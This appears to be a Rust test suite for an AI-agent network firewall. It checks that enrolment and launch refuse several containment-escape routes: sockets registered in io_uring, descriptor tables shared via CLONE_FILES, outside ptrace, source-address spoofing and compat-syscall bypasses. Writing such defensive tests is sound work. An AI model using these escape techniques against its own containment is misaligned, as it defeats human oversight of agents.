/// table's empty slots as `<none>` (6.1) or left out with every file printed (6.15 and later,
/// which print the files only with the ring's lock taken); between those (6.14), left out as a
/// busy ring's entries are, which refuses. The node learns which form its kernel prints from
/// a ring of its own.
#[test]
fn enroll_takes_a_unit_whose_io_uring_tables_hold_no_socket() {
    let fx = fixture("wire-enroll-rings");
    let (unit, mut probe) = fx.unit();
    let sparse = probe.ok_value("keep-ring sparse");
    let pipe = probe.ok_value("keep-ring pipe");
    let info =
        |fd: &str| std::fs::read_to_string(format!("/proc/{}/fdinfo/{fd}", probe.pid)).unwrap();
    let (sparse_info, pipe_info) = (info(&sparse), info(&pipe));
    assert!(sparse_info.contains("UserFiles:\t4"), "{sparse_info}");
    // The path form (6.14 on) prints a pipe by its path; 6.15 (and 6.14.8) print nothing of a
    // busy ring, so a count with no slots is a table of empty slots there, and before them
    // may be a busy ring.
    let pipe_told = pipe_info.contains(": pipe:[");
    let sparse_told =
        sparse_info.contains("<none>") || pipe_told && agentwall_tests::kernel_release() >= (6, 15);
    let out = fx.enroll_command(&unit).output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.success(), pipe_told && sparse_told, "{err}");
    let named = |fd: &str, what: &str| {
        err.contains(&format!("pid {} (\"aw-probe\") fd {fd}: {what}", probe.pid))
    };
    assert_eq!(
        named(
            &sparse,
            "an io_uring instance whose registered files were not all shown"
        ),
        !sparse_told,
        "{err}"
    );
    assert_eq!(
        named(&pipe, "an io_uring instance with a registered socket"),
        !pipe_told,
        "{err}"
    );
    if out.status.success() {
        assert_eq!(
            probe.cmd(&format!("connect tcp {PEER_V4} 9999")),
            "err EPERM"
        );
    }
}

/// A task outside the unit that shares a unit process's descriptor table (a process cloned
/// with `CLONE_FILES`, then moved out, or a thread of one whose leader has exited) is not
/// frozen with the unit, and a descriptor it opens or takes lands in the unit's table without
/// a receipt: enroll refuses while one is there.
#[test]
fn enroll_refuses_a_unit_sharing_its_descriptor_table_with_a_process_outside() {
    let fx = fixture("wire-enroll-files");
    let (unit, mut probe) = fx.unit();
    let elsewhere = fx._env.cgroup("elsewhere");
    // Without the lock: the chain of sharers below holds it throughout.
    let enroll_held = || fx.enroll_command(&unit).output().unwrap();
    let enroll = || {
        let _one = enrolling();
        enroll_held()
    };
    let refused_for = |outside: u32| {
        let out = enroll();
        let err = String::from_utf8_lossy(&out.stderr).into_owned();
        assert!(!out.status.success(), "{err}");
        assert!(
            err.contains(&format!(
                "shares its descriptor table with task {outside}, outside the cgroup (cloned with CLONE_FILES): that task can put descriptors in it that no hook judges as the unit's"
            )),
            "{err}"
        );
    };
    let gone = |pid: u32| {
        // SAFETY: kill with a pid and a signal.
        assert_eq!(unsafe { libc::kill(pid as i32, libc::SIGKILL) }, 0);
        eventually(
            "the child to exit",
            WITHIN,
            || match std::fs::read_to_string(format!("/proc/{pid}/stat")) {
                Ok(stat) if !stat.contains(") Z ") => Err(stat),
                _ => Ok(()),
            },
        );
    };
    let forked = |probe: &mut Probe| -> u32 {
        let forked = probe.ok_value("fork-sharing-files");
        forked
            .parse()
            .unwrap_or_else(|_| panic!("fork-sharing-files: {forked}"))
    };

    let leader_exited = |pid: u32| {
        eventually(
            "the leader to exit",
            WITHIN,
            || match std::fs::read_to_string(format!("/proc/{pid}/stat")) {
                Ok(stat) if stat.contains(") Z ") => Ok(()),
                other => Err(format!("{other:?}")),
            },
        );
    };

    // A process sharing the table, moved out.
    let child = forked(&mut probe);
    elsewhere.add_process(child).expect("move the child out");
    refused_for(child);
    gone(child);

    // A thread sharing it, its process's leader gone (no process /proc lists shares it).
    let child = forked(&mut probe);
    elsewhere.add_process(child).expect("move the child out");
    let started = probe.ok_value("sharing-leader-exits");
    let thread: u32 = started
        .parse()
        .unwrap_or_else(|_| panic!("sharing-leader-exits: {started}"));
    leader_exited(child);
    refused_for(thread);
    gone(child);

    // A chain of sharers, each cloning the next and exiting at once: no one of them lives
    // through a listing of the host's tasks, whatever its pace against it. Refused, every
    // time: a sharer in the census, or one the table's count of references shows.
    let hopper: u32 = probe
        .ok_value("fork-hopping-sharer")
        .parse()
        .expect("the hopping sharer's pid");
    elsewhere
        .add_process(hopper)
        .expect("move the hopping sharer out");
    let all = enrolling();
    // Long enough for the ten enrolls wherever they run (an emulated guest takes minutes).
    let lifetime = agentwall_tests::patience(Duration::from_secs(300)).as_secs();
    assert_eq!(probe.cmd(&format!("sharers-hop {lifetime}")), "ok");
    for attempt in 0..10 {
        let out = enroll_held();
        let err = String::from_utf8_lossy(&out.stderr).into_owned();
        assert!(
            !out.status.success(),
            "attempt {attempt}: enrolled while a chain of sharers ran outside: {err}"
        );
        assert!(
            err.contains("outside the cgroup (cloned with CLONE_FILES)"),
            "attempt {attempt}: {err}"
        );
    }
    assert_eq!(probe.cmd("sharers-stop"), "ok");
    let procs = elsewhere.path().join("cgroup.procs");
    eventually(
        "the chain of sharers to end",
        WITHIN,
        || match std::fs::read_to_string(&procs) {
            Ok(p) if p.trim().is_empty() => Ok(()),
            other => Err(format!("{other:?}")),
        },
    );
    drop(all);

    // Gone (an exited task holds no table), and inside the unit a process whose leader
    // exited (pthread_exit in main: a zombie out of the cgroup's listing, its thread left,
    // the table shared within the unit): enrolled.
    let child = forked(&mut probe);
    probe.ok_value("sharing-leader-exits");
    leader_exited(child);
    let out = enroll();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A task of a frozen unit can still run: one a tracer stopped at a system call's entry
/// counts as frozen, and the tracer can have it make that call at any time (receive a socket
/// from outside after the scan, say); a signal wakes a frozen task too. `enroll` refuses a
/// unit with a task traced from outside, and one whose task ran between the scan's start and
/// its end (switched out again); without either it enrolls, strace in the unit and all.
#[test]
fn enroll_refuses_a_unit_whose_tasks_can_run_while_it_is_frozen() {
    let fx = fixture("wire-enroll-still");
    let (unit, mut probe) = fx.unit();
    let enroll = || {
        let mut c = fx.enroll_command(&unit);
        let _one = enrolling();
        let out = c.output().unwrap();
        (
            out.status.success(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let pid = probe.pid;

    // Traced from outside: a thread of this test seizes the probe, and lets go as it ends.
    let (seized_tx, seized) = std::sync::mpsc::channel();
    let (done, done_rx) = std::sync::mpsc::channel::<()>();
    let tracer = std::thread::spawn(move || {
        // SAFETY: PTRACE_SEIZE of a live process (it keeps running), and gettid.
        let (rc, me) = unsafe {
            (
                libc::ptrace(libc::PTRACE_SEIZE, pid as libc::pid_t, 0, 0),
                libc::gettid(),
            )
        };
        seized_tx.send((rc, me)).unwrap();
        let _ = done_rx.recv();
    });
    let (rc, tracer_tid) = seized.recv().unwrap();
    assert_eq!(rc, 0, "PTRACE_SEIZE: {}", std::io::Error::last_os_error());
    let (ok, err) = enroll();
    assert!(!ok, "enrolled while traced from outside: {err}");
    assert!(
        err.contains(&format!(
            "task {pid} of the unit is traced by task {tracer_tid}, outside it: a task its tracer stopped at a system call's entry counts as frozen"
        )),
        "{err}"
    );
    done.send(()).unwrap();
    tracer.join().unwrap();

    // Woken while frozen: signals every 100 microseconds until the enroll ends, which reads
    // thousands of descriptors first (a woken task counts as run once it sleeps again).
    assert_eq!(probe.cmd("catch-rt"), "ok");
    let held: usize = probe.ok_value("hold-null 16000").parse().unwrap();
    assert!(held >= 3000, "only {held} descriptors");
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let (realtime_tx, realtime) = std::sync::mpsc::channel();
    let signals = {
        let stop = stop.clone();
        std::thread::spawn(move || {
            // Real-time, so the threads of tests running beside it (or an emulated guest's
            // other work) cannot starve it through the whole frozen window: with no signal
            // then, nothing ran and the enroll would be right to bind.
            let param = libc::sched_param { sched_priority: 1 };
            // SAFETY: sets the calling thread's own policy from a value that lives across it.
            let rc = unsafe { libc::sched_setscheduler(0, libc::SCHED_FIFO, &param) };
            let _ = realtime_tx.send(
                (rc == 0)
                    .then_some(())
                    .ok_or_else(std::io::Error::last_os_error),
            );
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                // SAFETY: kill with a pid and a signal the probe catches.
                unsafe { libc::kill(pid as i32, libc::SIGRTMIN()) };
                std::thread::sleep(Duration::from_micros(100));
            }
        })
    };
    if let Err(e) = realtime.recv().unwrap() {
        panic!("the signal thread as SCHED_FIFO: {e}");
    }
    let (ok, err) = enroll();
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    signals.join().unwrap();
    assert!(!ok, "enrolled while its task ran: {err}");
    // Caught having run (switched out again), or woken and not yet run at a reading.
    let at = unit.path().display();
    assert!(
        err.contains(&format!(
            "{at}: task {pid} ran while the unit was frozen for the scan (woken by a signal, or resumed by a tracer): what it did was not read; enroll again"
        )) || err.contains(&format!(
            "{at}: task {pid} of the unit is \"R (running)\" while the unit is frozen"
        )),
        "{err}"
    );

    // Neither, with a process of the unit under strace, itself in the unit: its tracee stops
    // for the frozen tracer (`t`), and stays there until the thaw. Enrolled.
    let straced = agentwall_tests::Straced::start(&unit);
    let (ok, err) = enroll();
    assert!(ok, "{err}");
    // Thawed, both run on.
    for pid in [straced.tracer, straced.tracee] {
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
        assert!(!stat.contains(") Z "), "{stat}");
    }
}

/// An upgrade to a new map layout sweeps the sockets it can list (each with a port) and
/// retires the old programs; a socket that had no port then (made, not yet bound) carries no
/// state of the new layout. Listening or binding it afterwards makes nothing ungoverned: it
/// takes only what ingress rules allow.
#[test]
fn a_socket_older_than_the_map_layout_is_governed_when_it_is_used() {
    let mut fx = fixture("wire-upgrade");
    let mut agent = fx.agent("agent", &CertSpec::agent(ID));
    assert_eq!(agent.cmd("keep tcp"), "ok");
    assert_eq!(agent.cmd("keep udp"), "ok");
    assert_eq!(fx.node.take().expect("node running").stop(), 0);
    // The running layout's pins, renamed as an older layout would have left them.
    let pins = agentwall::datapath::pin_dir(&fx._env.bpffs_dir);
    std::fs::rename(&pins, fx._env.bpffs_dir.join("v1")).unwrap();
    fx.node = Some(NodeProc::start_with(
        &fx._env,
        fx.dir.path(),
        &["--aggregate-window-secs", "1"],
    ));
    assert!(!fx._env.bpffs_dir.join("v1").exists(), "old layout retired");

    assert_eq!(agent.cmd("listen-kept 8090"), "ok");
    assert_eq!(agent.cmd("bind-kept 5000"), "ok");
    let agent_v4 = agentwall_tests::wire::AGENT_V4;
    let refused = fx.link.peer.run_in(|| {
        let u = std::net::UdpSocket::bind(format!("{PEER_V4}:9500")).expect("bind 9500");
        u.send_to(b"stranger", format!("{agent_v4}:5000")).unwrap();
        std::net::TcpStream::connect_timeout(
            &format!("{agent_v4}:8090").parse().unwrap(),
            Duration::from_secs(2),
        )
        .map(drop)
    });
    let err = refused.expect_err("no ingress rule for 8090: no SYN-ACK");
    assert_eq!(err.kind(), std::io::ErrorKind::TimedOut, "{err}");
    let seen = fx.until_helper_marker(9101);
    let answered: Vec<&Packet> = seen.iter().filter(|p| p.sport == Some(8090)).collect();
    assert!(answered.is_empty(), "the old socket answered: {answered:?}");
    assert_eq!(agent.cmd("udp-recv 5000 200"), "timeout");
    for (port, protocol) in [(8090, "tcp"), (5000, "udp")] {
        let r = wait_flow_where(fx.socket(), "deny", |r| {
            r["port"] == port && r["direction"] == "inbound"
        });
        assert_eq!(r["reason"], "no ingress rule allows it", "{r:#}");
        assert_eq!(r["protocol"], protocol, "{r:#}");
        assert_eq!(r["identity"], ID, "{r:#}");
    }
}

/// A socket the launching process holds is not handed to the agent: made outside governance,
/// it would carry its flows past the cgroup's rules.
#[test]
fn launch_hands_the_agent_no_inherited_socket() {
    let fx = fixture("wire-inherit");
    let (cert, key) = write_cert(fx.dir.path(), "inherit", &fx.ca.issue(&CertSpec::agent(ID)));
    let sock = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let (raw_sock, inherited) = (sock.as_raw_fd(), 300);
    let mut launch = launch_args(fx.socket(), &cert, &key);
    launch.args(["/bin/sh", "-c", "ls /proc/self/fd"]);
    // A descriptor without close-on-exec in the launcher only (made in this process, other
    // tests' children would inherit it).
    // SAFETY: dup2 between the fork and the exec, on descriptors this test owns.
    unsafe {
        std::os::unix::process::CommandExt::pre_exec(&mut launch, move || {
            if libc::dup2(raw_sock, inherited) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let out = run_ok(&mut launch);
    let fds: Vec<String> = String::from_utf8(out)
        .unwrap()
        .split_whitespace()
        .map(str::to_owned)
        .collect();
    assert!(!fds.contains(&inherited.to_string()), "{fds:?}");
    assert!(fds.iter().any(|f| f == "0"), "{fds:?}");

    // A socket as a standard stream would go on to the agent: the node refuses the launch.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let stream = std::net::TcpStream::connect(listener.local_addr().unwrap()).unwrap();
    let (local, peer) = (stream.local_addr().unwrap(), listener.local_addr().unwrap());
    let out = launch_args(fx.socket(), &cert, &key)
        .arg("/bin/true")
        .stdin(std::process::Stdio::from(std::os::fd::OwnedFd::from(
            stream,
        )))
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{err}");
    assert!(
        err.contains(&format!(
            "fd 0: TCP socket {local} -> {peer} made in cgroup id"
        )),
        "{err}"
    );
}

/// Inbound: a connection from outside reaches a governed listener only where an ingress rule
/// allows its peer and the local port; anything else gets no SYN-ACK (dropped in the kernel,
/// recorded). Local processes reach it over loopback, which the sender's own rules govern.
#[test]
fn inbound_connections_need_an_ingress_rule() {
    let mut fx = fixture("wire-inbound");
    let mut agent = fx.agent("agent", &CertSpec::agent(ID));
    assert_eq!(agent.cmd("listen tcp :: 8088"), "ok");
    assert_eq!(agent.cmd("listen tcp :: 8090"), "ok");
    let connect = |to: String| {
        let target: std::net::SocketAddr = to.parse().unwrap();
        fx.link.peer.run_in(|| {
            std::net::TcpStream::connect_timeout(&target, Duration::from_secs(2)).map(drop)
        })
    };
    // The allowed peer, on the allowed port.
    connect(format!("[{AGENT_V6}]:8088")).expect("the ingress rule's peer and port");
    // Another peer on that port; the allowed peer on another port.
    for to in [
        format!("{}:8088", agentwall_tests::wire::AGENT_V4),
        format!("[{AGENT_V6}]:8090"),
    ] {
        let err = connect(to.clone()).expect_err("no ingress rule: no SYN-ACK");
        assert_eq!(err.kind(), std::io::ErrorKind::TimedOut, "{to}: {err}");
    }
    let seen = fx.until_helper_marker(9104);
    let answered: Vec<&Packet> = seen
        .iter()
        .filter(|p| p.next == 6 && p.dst == PEER_V4.parse::<std::net::IpAddr>().unwrap())
        .chain(seen.iter().filter(|p| p.sport == Some(8090)))
        .collect();
    assert!(answered.is_empty(), "the agent answered: {answered:?}");
    for (peer, port) in [(PEER_V4, 8088), (PEER_V6, 8090)] {
        let r = wait_flow_where(fx.socket(), "deny", |r| {
            r["dest"] == peer && r["port"] == port && r["direction"] == "inbound"
        });
        assert_eq!(r["reason"], "no ingress rule allows it", "{r:#}");
        assert_eq!(r["protocol"], "tcp", "{r:#}");
        assert_eq!(r["identity"], ID, "{r:#}");
    }
    // Loopback: an unenrolled local process reaches the listener; what it may send is its
    // own rules' business.
    assert_eq!(fx.helper.cmd("connect tcp ::1 8090"), "ok");
}

/// Inbound datagrams: replies to a socket that has sent (from where it sent, or from a peer
/// and port its egress rules allow it to send to anyway) and what an ingress rule allows
/// reach it; nothing else does. A socket that never sent takes only what ingress rules allow.
#[test]
fn inbound_datagrams_are_replies_or_allowed_by_a_rule() {
    let fx = fixture("wire-inbound-udp");
    let mut agent = fx.agent("agent", &CertSpec::agent(ID));
    let agent_v4 = agentwall_tests::wire::AGENT_V4;
    assert_eq!(agent.cmd(&format!("udp-bind {agent_v4} 5000")), "ok");
    assert_eq!(agent.cmd(&format!("udp-bind {agent_v4} 5353")), "ok");
    let (served, stranger) = fx.link.peer.run_in(|| {
        (
            std::net::UdpSocket::bind(format!("{PEER_V4}:9000")).expect("bind 9000"),
            std::net::UdpSocket::bind(format!("{PEER_V4}:9500")).expect("bind 9500"),
        )
    });
    let send = |from: &std::net::UdpSocket, port: u16, what: &str| {
        from.send_to(what.as_bytes(), format!("{agent_v4}:{port}"))
            .expect("send to the agent");
    };
    // The socket has sent nothing yet: neither the stranger nor the peer its egress rules
    // allow reaches it.
    send(&stranger, 5000, "stranger");
    send(&served, 5000, "early");
    // It sends; the reply is the first datagram it ever gets.
    assert_eq!(agent.cmd(&format!("udp-send 5000 {PEER_V4} 9000")), "ok");
    let mut buf = [0u8; 64];
    let (_, back_to) = served.recv_from(&mut buf).expect("the agent's datagram");
    served.send_to(b"reply", back_to).unwrap();
    assert_eq!(
        agent.cmd("udp-recv 5000 10000"),
        format!("from {PEER_V4}:9000 reply")
    );
    for port in [9500, 9000] {
        let r = wait_flow_where(fx.socket(), "deny", |r| {
            r["dest"] == PEER_V4 && r["port"] == 5000 && r["direction"] == "inbound"
        });
        assert_eq!(r["reason"], "no ingress rule allows it", "{port}: {r:#}");
        assert_eq!(r["protocol"], "udp", "{r:#}");
    }
    // Now that it has sent, the peer and port its egress rules allow may write first; the
    // stranger still may not.
    send(&stranger, 5000, "stranger again");
    send(&served, 5000, "later");
    assert_eq!(
        agent.cmd("udp-recv 5000 10000"),
        format!("from {PEER_V4}:9000 later")
    );
    // The ingress rule's port takes the stranger.
    send(&stranger, 5353, "allowed");
    assert_eq!(
        agent.cmd("udp-recv 5353 10000"),
        format!("from {PEER_V4}:9500 allowed")
    );
    // And nothing the stranger sent to 5000 was ever delivered.
    assert_eq!(agent.cmd("udp-recv 5000 200"), "timeout");
}

/// A connect the hook allowed but the kernel failed at once leaves the socket unconnected;
/// listening on it afterwards must not make a listener that passes for a connected socket.
#[test]
fn a_listener_is_never_taken_for_a_connected_socket() {
    let fx = fixture("wire-relisten");
    let mut agent = fx.agent("agent", &CertSpec::agent(ID));
    let agent_v4 = agentwall_tests::wire::AGENT_V4;
    for (how, port) in [("mismatch", 8093), ("v6only", 8094)] {
        let answer = agent.cmd(&format!(
            "listen-after-failed-connect {how} {PEER_V4} 9001 {port}"
        ));
        assert!(
            answer.starts_with("connect E") && answer.ends_with("; listening"),
            "{how}: {answer}"
        );
    }
    // From the very peer and port the failed connect named.
    for (src, dst) in [
        (format!("{PEER_V4}:9001"), format!("{agent_v4}:8093")),
        (format!("[{PEER_V6}]:9001"), format!("[{AGENT_V6}]:8094")),
    ] {
        let err = agentwall_tests::wire::connect_from(
            &fx.link.peer,
            src.parse().unwrap(),
            dst.parse().unwrap(),
            Duration::from_secs(2),
        )
        .expect_err("no ingress rule: no SYN-ACK");
        assert_eq!(
            err.kind(),
            std::io::ErrorKind::TimedOut,
            "{src} -> {dst}: {err}"
        );
    }
    for port in [8093, 8094] {
        let r = wait_flow_where(fx.socket(), "deny", |r| {
            r["port"] == port && r["direction"] == "inbound"
        });
        assert_eq!(r["reason"], "no ingress rule allows it", "{r:#}");
    }
}

/// The ICMP error queue of a unit's sockets: one its process opened before `enroll` (no
/// program turned the option to 0 then) is used no more once enrolled, and the unit's own
/// 32-bit setsockopt, which skips the program that keeps the queue shut, is refused. An
/// open queue brings ICMP senders' errors to the socket, no ingress rule judging them.
#[test]
fn a_unit_uses_no_socket_whose_error_queue_is_open() {
    let fx = fixture("wire-enroll-recverr");
    let (unit, mut probe) = fx.unit();
    assert_eq!(probe.cmd(&format!("hold udp-recverr {PEER_V4} 9000")), "ok");
    {
        let _one = enrolling();
        agentwall_tests::node::run_ok(&mut fx.enroll_command(&unit));
    }
    if lsm_line(fx.socket()).is_some() {
        // Nothing judges the socket's options or its use there: the threat model says so.
        assert_eq!(probe.cmd("send-held"), "ok");
        return;
    }
    assert_eq!(probe.cmd("send-held"), "err EPERM");
    let r = wait_flow_where(fx.socket(), "socket-deny", |r| {
        r["protocol"] == "send or receive on a socket of family 2 (inet), with IP_RECVERR set"
    });
    assert_eq!(
        r["reason"], "socket error queue closed (ICMP errors carry unjudged bytes)",
        "{r:#}"
    );
    assert_eq!(r["identity"], ID, "{r:#}");
    assert_eq!(r["pid"], probe.pid, "{r:#}");
    assert_eq!(probe.cmd("drop-held"), "ok");
    // A socket made since: the native call leaves the queue shut, the compat one is refused.
    assert_eq!(probe.cmd(&format!("hold udp {PEER_V6} 9000")), "ok");
    assert_eq!(probe.cmd("recverr-held"), "ok off");
    assert_eq!(probe.cmd("recverr32-held"), "setsockopt EPERM");
    wait_flow_where(fx.socket(), "socket-deny", |r| {
        r["protocol"] == "socket option level 41 name 25 (IPV6_RECVERR)"
            && r["reason"] == "socket error queue closed (ICMP errors carry unjudged bytes)"
            && r["pid"] == probe.pid
    });
    assert_eq!(probe.cmd("send-held"), "ok");
}

/// Sending from an address the host does not hold: the options that allow binding one
/// (IP_FREEBIND, IPV6_FREEBIND) are refused to a governed agent, so its packets carry the
/// host's own addresses. An unenrolled process may still set them.
#[test]
fn a_governed_agent_sends_only_from_addresses_the_host_holds() {
    let mut fx = fixture("wire-spoof");
    let mut agent = fx.agent("agent", &CertSpec::agent(ID));
    let attempts = [
        format!("spoof 2001:db8::99 {PEER_V6} 9000"),
        format!("spoof 192.0.2.99 {PEER_V4} 9000"),
        // The 32-bit gate, which the cgroup setsockopt hook never sees: launch refuses the
        // agent every compat system call.
        format!("spoof32 2001:db8::99 {PEER_V6} 9000"),
        format!("spoof32 192.0.2.99 {PEER_V4} 9000"),
    ];
    for a in &attempts {
        assert_eq!(agent.cmd(a), "setsockopt EPERM", "{a}");
    }
    // The loopback source, which IPV6_PKTINFO gives an unprivileged sender: the packet line
    // refuses it on any device but loopback.
    assert_eq!(
        agent.cmd(&format!("pktinfo6 ::1 {PEER_V6} 9000")),
        "err EPERM"
    );
    // The ICMP error queue: its messages quote whatever bytes their sender chose, and they
    // reach the socket past the ingress line. Turning it on succeeds (glibc's resolver gives
    // up on a socket where it fails) and leaves it off.
    for fam in ["inet", "inet6"] {
        for size in ["int", "long"] {
            let cmd = format!("recverr {fam} {size}");
            assert_eq!(agent.cmd(&cmd), "ok off", "{cmd}");
            assert_eq!(fx.helper.cmd(&cmd), "ok on", "{cmd}");
        }
    }
    let seen = fx.until_helper_marker(9105);
    let spoofed: Vec<&Packet> = seen
        .iter()
        .filter(|p| {
            p.src == "2001:db8::99".parse::<std::net::IpAddr>().unwrap()
                || p.src == "192.0.2.99".parse::<std::net::IpAddr>().unwrap()
                || p.src == "::1".parse::<std::net::IpAddr>().unwrap()
        })
        .collect();
    assert!(spoofed.is_empty(), "{spoofed:?}");
    let r = deny_record(
        fx.socket(),
        PEER_V6,
        "loopback source address on a packet leaving the host",
    );
    assert_eq!(r["identity"], ID, "{r:#}");
    for option in ["41 name 78 (IPV6_FREEBIND)", "0 name 15 (IP_FREEBIND)"] {
        let r = wait_flow_where(fx.socket(), "socket-deny", |r| {
            r["protocol"].as_str().is_some_and(|p| p.ends_with(option))
        });
        assert_eq!(
            r["reason"], "socket option not allowed (non-local source address)",
            "{r:#}"
        );
        assert_eq!(r["identity"], ID, "{r:#}");
    }
    // Not the agent's: an unenrolled process is not held to it, and this kernel does take
    // the 32-bit gate (so the agent's refusal above is the filter's, not a missing gate).
    for probe in ["spoof", "spoof32"] {
        assert_eq!(
            fx.helper
                .cmd(&format!("{probe} 2001:db8::99 {PEER_V6} 9000")),
            "ok",
            "{probe}"
        );
    }
    // Nor is it to the loopback source, which the kernel does put on the wire.
    assert_eq!(fx.helper.cmd(&format!("pktinfo6 ::1 {PEER_V6} 9000")), "ok");
    fx.capture.until(WITHIN, |p| {
        p.src == "::1".parse::<std::net::IpAddr>().unwrap() && p.dport == Some(9000)
    });
}
